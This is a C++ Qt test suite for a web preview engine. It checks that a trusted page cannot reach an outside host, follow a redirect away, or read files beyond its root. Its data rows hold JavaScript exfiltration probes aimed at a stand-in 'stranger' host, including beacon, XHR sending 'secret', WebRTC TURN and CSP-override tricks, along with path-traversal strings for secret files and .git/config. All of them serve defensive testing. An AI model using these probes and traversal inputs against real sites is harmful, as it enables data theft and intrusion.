// SPDX-License-Identifier: MIT
#include "preview/page/view/previewview.h"
#include "tests/page/guard/trustedpage.h"
#include "tests/support/foreignwatch.h"
#include "tests/support/pageanswer.h"
#include "tests/support/remotehost.h"

#include <QApplication>
#include <QTest>

using namespace galley;
using namespace galley::test;

// Whom and what a trusted page does not reach.
class TestTrustedReach : public QObject, protected TrustedPage {
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { setUpAll(); }
    void cleanupTestCase() { tearDownAll(); }
    void cleanup() { tearDown(); }
    void reachesNobodyElse_data();
    void reachesNobodyElse();
    void followsNoRedirectAway();
    void readsNoFileOutside_data();
    void readsNoFileOutside();
};

void TestTrustedReach::reachesNobodyElse_data()
{
    QTest::addColumn<QString>("script");
    const auto row = [](const char* name, const char* script) {
        QTest::newRow(name) << QString::fromLatin1(script);
    };
    row("fetch", "await fetch('http://{s}/f').then(() => 0, () => 0); done(1)");
    row("fetch without cors",
        "await fetch('http://{s}/f', {mode: 'no-cors', method: 'POST', body: 'x', keepalive: "
        "true}).then(() => 0, () => 0); done(1)");
    row("request",
        "const x = new XMLHttpRequest(); x.onloadend = () => done(1); x.open('POST', "
        "'http://{s}/x'); x.send('secret')");
    row("beacon", "navigator.sendBeacon('http://{s}/b', 'x'); done(1)");
    row("socket", "const w = new WebSocket('ws://{s}/'); w.onerror = () => done(1)");
    row("events", "const e = new EventSource('http://{s}/e'); e.onerror = () => done(1)");
    row("picture", "const i = new Image(); i.onerror = () => done(1); i.src = 'http://{s}/i.png'");
    row("script",
        "const s = document.createElement('script'); s.onerror = () => done(1); s.src = "
        "'http://{s}/s.js'; document.head.append(s)");
    row("import", "await import('http://{s}/m.js').catch(() => 0); done(1)");
    row("style",
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.onerror = () => "
        "done(1); l.href = 'http://{s}/s.css'; document.head.append(l)");
    row("prefetch",
        "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'http://{s}/p'; "
        "document.head.append(l); setTimeout(done, 200, 1)");
    if (!test::kConnectsAhead)
        row("preconnect",
            "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = "
            "'http://{s}/'; document.head.append(l); setTimeout(done, 200, 1)");
    row("other hints",
        "for (const rel of ['dns-prefetch', 'prerender', 'modulepreload']) { const l "
        "= document.createElement('link'); l.rel = rel; l.href = 'http://{s}/'; "
        "document.head.append(l) } setTimeout(done, 200, 1)");
    row("font",
        "await new FontFace('X', 'url(http://{s}/f.woff2)').load().catch(() => 0); done(1)");
    row("media", "const a = new Audio('http://{s}/a.mp3'); a.onerror = () => done(1); a.load()");
    row("frame",
        "const f = document.createElement('iframe'); f.src = 'http://{s}/f'; "
        "document.body.append(f); setTimeout(done, 200, 1)");
    row("form",
        "const f = document.createElement('form'); f.action = 'http://{s}/f'; f.method = 'post'; "
        "document.body.append(f); f.submit(); setTimeout(done, 200, 1)");
    row("going there", "location.href = 'http://{s}/go'; setTimeout(done, 200, 1)");
    row("going there by replacing", "location.replace('http://{s}/go'); setTimeout(done, 200, 1)");
    row("window", "window.open('http://{s}/w'); setTimeout(done, 200, 1)");
    row("worker",
        "try { new Worker(URL.createObjectURL(new Blob([`fetch('http://{s}/w')`]))) } catch {} "
        "setTimeout(done, 200, 1)");
    row("worker of the site",
        "try { new Worker('/static/own.js') } catch {} setTimeout(done, 200, 1)");
    row("shared worker", "try { new SharedWorker('http://{s}/w.js') } catch {} done(1)");
    row("service worker",
        "await (navigator.serviceWorker?.register('/static/own.js') ?? Promise.reject())"
        ".catch(() => 0); done(1)");
    row("video call",
        "try { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:{u}'}, {urls: "
        "'turn:{s}?transport=tcp', username: 'a', credential: 'b'}]}); p.createDataChannel('x'); "
        "await p.setLocalDescription(await p.createOffer()) } catch {} setTimeout(done, 400, 1)");
    row("video call from a frame's window",
        "const f = document.createElement('iframe'); document.body.append(f); try { const p = new "
        "window[0].RTCPeerConnection({iceServers: [{urls: 'stun:{u}'}, {urls: "
        "'turn:{s}?transport=tcp', username: 'a', credential: 'b'}]}); p.createDataChannel('x'); "
        "await p.setLocalDescription(await p.createOffer()) } catch {} setTimeout(done, 400, 1)");
    row("video call from a frame that has just loaded",
        "const f = document.createElement('iframe'); f.onload = async () => { try { const p = new "
        "window[0].RTCPeerConnection({iceServers: [{urls: 'turn:{s}?transport=tcp', username: 'a', "
        "credential: 'b'}]}); p.createDataChannel('x'); await p.setLocalDescription(await "
        "p.createOffer()) } catch {} }; document.body.append(f); setTimeout(done, 400, 1)");
    row("video call from a frame that was written",
        "document.write('<iframe></iframe>'); try { const p = new "
        "window[0].RTCPeerConnection({iceServers: [{urls: 'turn:{s}?transport=tcp', username: 'a', "
        "credential: 'b'}]}); p.createDataChannel('x'); await p.setLocalDescription(await "
        "p.createOffer()) } catch {} setTimeout(done, 400, 1)");
    row("video call from a frame deep inside",
        "document.body.insertAdjacentHTML('beforeend', '<div><p><iframe></iframe></p></div>'); "
        "try { const p = new window[0].RTCPeerConnection({iceServers: [{urls: "
        "'turn:{s}?transport=tcp', username: 'a', credential: 'b'}]}); p.createDataChannel('x'); "
        "await p.setLocalDescription(await p.createOffer()) } catch {} setTimeout(done, 400, 1)");
    row("video call from a frame in a shadow",
        "const h = document.createElement('div'); document.body.append(h); const r = "
        "h.attachShadow({mode: 'open'}); r.innerHTML = '<iframe></iframe>'; try { const p = new "
        "(window[0] ?? r.firstChild.contentWindow).RTCPeerConnection({iceServers: [{urls: "
        "'turn:{s}?transport=tcp', username: 'a', credential: 'b'}]}); p.createDataChannel('x'); "
        "await p.setLocalDescription(await p.createOffer()) } catch {} setTimeout(done, 400, 1)");
    row("fetch from a frame's window",
        "const f = document.createElement('iframe'); document.body.append(f); await "
        "window[0]?.fetch('http://{s}/f').then(() => 0, () => 0); done(1)");
    row("transport",
        "try { const t = new WebTransport('https://{u}/'); await t.ready } catch {} done(1)");
    row("payment and presentation",
        "try { new PresentationRequest('http://{s}/p').start() } catch {} setTimeout(done, 100, "
        "1)");
    row("style element",
        "const s = document.createElement('style'); s.textContent = '@import url(http://{s}/i.css);"
        " body { background: url(http://{s}/b.png) }'; document.head.append(s); setTimeout(done, "
        "200, 1)");
    row("markup",
        "document.body.insertAdjacentHTML('beforeend', '<img src=http://{s}/i.png><iframe "
        "srcdoc=\"<img src=http://{s}/j.png>\"></iframe><object data=http://{s}/o></object><embed "
        "src=http://{s}/e><video src=http://{s}/v></video>'); setTimeout(done, 200, 1)");
    row("policy of its own",
        "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=Content-Security-Policy "
        "content=\"default-src *\"><meta http-equiv=refresh content=\"0;url=http://{s}/r\">'); "
        "setTimeout(done, 200, 1)");
}

void TestTrustedReach::reachesNobodyElse()
{
    QFETCH(QString, script);
    script.replace(QStringLiteral("{s}"), m_stranger.address());
    script.replace(
        QStringLiteral("{u}"), QStringLiteral("127.0.0.1:%1").arg(m_stranger.datagramPort()));
    QCOMPARE(scriptResult(script, naming(m_named)), QStringLiteral("1"));
    QVERIFY(evaluate(QStringLiteral("location.href"))
                .toString()
                .startsWith(QStringLiteral("site://checkout/")));
    const int visits = m_stranger.visits();
    m_stranger.forget();
    QCOMPARE(visits, 0);
}

void TestTrustedReach::followsNoRedirectAway()
{
    m_named.answer = "HTTP/1.1 302 Found\r\nLocation: http://" + m_stranger.address().toLatin1()
        + "/away\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\nConnection: close\r\n"
          "\r\n";
    QCOMPARE(
        scriptResult(QStringLiteral("const i = new Image(); await new Promise(r => { i.onerror = r;"
                                    " i.onload = r; i.src = 'http://%1/i.png' }); await "
                                    "fetch('http://%1/f').catch(() => 0); done(1)")
                         .arg(m_named.address()),
            naming(m_named)),
        QStringLiteral("1"));
    QVERIFY(m_named.asked().contains(QStringLiteral("/i.png")));
    QVERIFY(m_named.asked().contains(QStringLiteral("/f")));
    QCOMPARE(m_stranger.visits(), 0);
}

void TestTrustedReach::readsNoFileOutside_data()
{
    QTest::addColumn<QString>("address");
    for (const char* address :
        {"/static/link.txt", "/../secret/secret.txt", "/..%2fsecret%2fsecret.txt",
            "/%2e%2e/secret/secret.txt", "{secret}/secret.txt", "file://{secret}/secret.txt",
            "site://checkout{secret}/secret.txt", "site://web/..%2f..%2fsecret/secret.txt",
            "qrc:/site/_config.yml", "view-source:file://{secret}/secret.txt", "chrome://version",
            "blob:site://checkout/1", "/.git/config", "/_config.yml"})
        QTest::newRow(address) << QString::fromLatin1(address);
}

void TestTrustedReach::readsNoFileOutside()
{
    QFETCH(QString, address);
    address.replace(QStringLiteral("{secret}"), m_secret);
    const QString script = QStringLiteral(
        "const x = new XMLHttpRequest(); x.onload = () => done('read ' + x.responseText); "
        "x.onerror = () => done('refused'); x.open('GET', '%1'); x.send()");
    QVERIFY(!scriptResult(script.arg(address), {true, {}}).startsWith(QLatin1String("read")));
    QCOMPARE(m_watch->opened(), QStringList());
}

int main(int argc, char** argv)
{
    qputenv("QTWEBENGINE_CHROMIUM_FLAGS", "--host-resolver-rules=\"MAP * 127.0.0.1\"");
    registerPreviewScheme();
    QApplication application(argc, argv);
    TestTrustedReach test;
    return QTest::qExec(&test, argc, argv);
}
#include "tst_trustedreach.moc"
